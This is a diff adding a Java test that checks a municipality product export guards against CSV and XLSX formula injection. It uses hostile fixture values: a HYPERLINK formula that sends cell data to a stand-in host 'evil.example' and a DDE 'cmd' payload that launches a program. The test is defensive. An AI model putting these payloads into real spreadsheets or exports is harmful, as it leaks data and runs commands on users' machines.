@@ -104,6 +104,30 @@ class ExportTest {
   }
 
   @Test
+  void aCellThatLooksLikeAFormulaIsTextInTheCsvAndAStringInTheXlsx() throws Exception {
+    String title = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klik\")";
+    String note = " \"@SUM(1+1)";
+    long m = new MunicipalityService(DB.jdbi()).create("Formuledorp", "https://www.formuledorp.nl").id();
+    DB.jdbi().useHandle(h -> {
+      long site = h.createQuery("SELECT id FROM site WHERE municipality_id = :m").bind("m", m).mapTo(Long.class).one();
+      long p = product(h, site, title, "/formule", cluster(h, m, "Burgerzaken"), "DIGITAL", true, 0);
+      h.execute("UPDATE product SET notes = ? WHERE id = ?", note, p);
+      action(h, p, "REWRITE_TEXT", "\t=cmd|' /C calc'!A0", "2026-12-31", "OPEN");
+    });
+
+    CSVRecord row = parseCsv(download("/api/municipalities/" + m + "/export.csv").body()).get(1);
+    assertThat(row.get(0)).isEqualTo("'" + title);
+    assertThat(row.get(16)).isEqualTo("'" + note);
+    assertThat(row.get(11)).isEqualTo("'\t=cmd|' /C calc'!A0");
+    assertThat(row.get(2)).as("ordinary text is untouched").isEqualTo("Burgerzaken");
+
+    Row xlsx = readXlsx(download("/api/municipalities/" + m + "/export.xlsx").body()).get("Burgerzaken").stream()
+        .filter(r -> title.equals(r.getCellText(0))).findFirst().orElseThrow();
+    assertThat(xlsx.getCell(0).getType()).as("a string cell, never a formula")
+        .isEqualTo(org.dhatim.fastexcel.reader.CellType.STRING);
+  }
+
+  @Test
   void theCsvHasABomSemicolonsAndOneLinePerProduct() throws Exception {
     HttpResponse<byte[]> r = download("/api/municipalities/" + municipality + "/export.csv");
     assertThat(r.statusCode()).isEqualTo(200);
